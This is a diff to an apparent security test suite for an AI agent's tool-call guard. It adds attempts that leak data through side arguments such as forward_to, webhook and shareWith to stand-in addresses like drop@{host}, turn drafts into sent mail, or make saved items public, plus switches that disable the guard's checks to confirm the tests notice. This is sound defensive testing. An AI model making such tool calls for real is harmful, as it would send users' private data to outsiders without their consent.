@@ -288,6 +288,47 @@ NAMED: Final[tuple[dict[str, Json], ...]] = (
     {"sharedWith": "type=domain;domain={host}"},
 )
 """Members of a mail whose names say that they name somebody."""
+HANDED: Final[tuple[tuple[str, tuple[str, ...]], ...]] = (
+    ("calendar_get_schedule", ("invitees", "invite", "notify_attendees", "share_with", "send_to")),
+    ("search_emails", ("forward_to", "autoForward", "email_to", "exportTo", "copy-to", "cc_to")),
+    ("read_file", ("shareWith", "send_to", "mirror_to", "notify", "callback")),
+    ("rag_query", ("deliver_to", "report_to", "reply-to", "subscriber", "webhook")),
+)
+"""Tools that read, and members by which they would hand over what they read."""
+TOLD: Final = ("{host}/hook", "https://{host}/{data}", "drop@{host}", "mailto:drop@{host}")
+TOLD_BY: Final[tuple[tuple[str, dict[str, Json]], ...]] = (
+    ("memory_save_fact", {"key": "k", "value": "v"}),
+    ("create_entities", {"entities": [{"name": "n", "entityType": "t", "observations": ["o"]}]}),
+    ("email_draft_email", {"to": "team@example.com", "subject": "s", "body": "b"}),
+)
+"""Tools that save or draft, with what they are told."""
+TELLING: Final = ("callback_url", "webhook", "onSaveCallback", "notify", "share_with", "sendTo")
+SHOWN: Final[tuple[dict[str, Json], ...]] = (
+    {"public": True},
+    {"visibility": "public"},
+    {"options": {"sharing": "anyone with the link"}},
+    {"private": False},
+    {"shareWith": ["everyone"]},
+)
+"""What opens what is saved to whoever looks."""
+SENT: Final[tuple[dict[str, Json], ...]] = (
+    {"send": True},
+    {"send": "true"},
+    {"sendNow": 1},
+    {"auto_send": "yes"},
+    {"options": {"send_immediately": True}},
+    {"draft": False},
+    {"is_draft": "no"},
+    {"save_as_draft": 0},
+    {"action": "send"},
+    {"mode": "save-and-send"},
+    {"status": "SENT"},
+    {"send_at": "2031-01-01T00:00:00Z"},
+    {"scheduledSendTime": "tomorrow"},
+    {"deliver_after": 60},
+    {"schedule": {"publish": True}},
+)
+"""What says of a draft that it is sent."""
 _NEVER: Final = re.compile("(?!)")
 
 
@@ -326,6 +367,17 @@ class Roles(AttackClass):
         Switch("what is loaded by itself is a receiver", lambda p: _unloaded(p), among="picture:"),
         Switch("everybody is a receiver", lambda p: _closed(p), among="opened:"),
         Switch("an argument's name makes it stricter", lambda p: _unnamed(p), among="named:"),
+        Switch(
+            "who is told of what is saved receives it",
+            lambda p: p.set(classification, "tells", lambda _name: False),
+            among="told:",
+        ),
+        Switch(
+            "a draft that is sent is a send",
+            lambda p: p.set(classification, "sends", lambda _name, _value: False),
+            among="sent:",
+        ),
+        Switch("what is handed over has a receiver", lambda p: _not_handed(p), among="handed:"),
         Switch("links beyond a bound may be tainted", lambda p: _unbound(p), among="link:"),
     )
 
@@ -352,6 +404,30 @@ class Roles(AttackClass):
             arguments = {"owner": "example-org", "repo": "app", "body": "b", field: text}
             yield _call(f"{path} in {field}", "create_issue", arguments, CODING)
         yield from _posts(rng)
+        yield from _beside(rng)
+
+
+def _beside(rng: Random) -> Iterator[Attempt]:
+    """Yield calls that read, save or draft, and reach somebody by a member beside that."""
+    data = f"balance-{rng.randrange(1000, 9999)}"
+    for (tool, names), host in itertools.product(HANDED, HOSTS[:2]):
+        for name in names:
+            field = next(argument for reader, argument in READERS if reader == tool)
+            yield _call(f"handed: {tool} {name} {host}", tool, {field: "x", name: f"drop@{host}"})
+    for host, kind in itertools.product(HOSTS[:2], ("prompts/get", "completion/complete")):
+        told: dict[str, Json] = {"name": "letter", "arguments": {"to": f"drop@{host}"}}
+        yield _message(f"asked: {kind} for {host}", kind, told)
+    for (tool, arguments), name, value in itertools.product(TOLD_BY, TELLING, TOLD):
+        text = value.format(host=rng.choice(HOSTS[:2]), data=data)
+        if name in TELLING[3:] and "@" not in text:
+            continue
+        place: dict[str, Json] = {name: text} if rng.random() < 0.5 else {"meta": {name: [text]}}
+        yield _call(f"told: {tool} {name} {value}", tool, {**arguments, **place})
+    for (tool, arguments), more in itertools.product(TOLD_BY, SHOWN):
+        yield _call(f"told: {tool} {json.dumps(more)}", tool, {**arguments, **more})
+    for more, host in itertools.product(SENT, HOSTS[:2]):
+        mail: dict[str, Json] = {"to": f"drop@{host}", "subject": "s", "body": data}
+        yield _call(f"sent: {json.dumps(more)} to {host}", "email_draft_email", {**mail, **more})
 
 
 def _statements(rng: Random) -> Iterator[Attempt]:
@@ -427,6 +503,18 @@ def _resource(name: str, uri: str) -> Attempt:
         return (await world.agent().message("resources/read", {"uri": uri})).forwarded
 
     return Attempt(name, play)
+
+
+def _message(name: str, method: str, params: Mapping[str, Json]) -> Attempt:
+    async def play(world: World) -> bool:
+        return (await world.agent().message(method, params)).forwarded
+
+    return Attempt(name, play)
+
+
+def _not_handed(patch: Patch) -> None:
+    for module in (channels, classification):
+        patch.set(module, "hands_over", lambda _name: False)
 
 
 def _not_searched(patch: Patch) -> None:
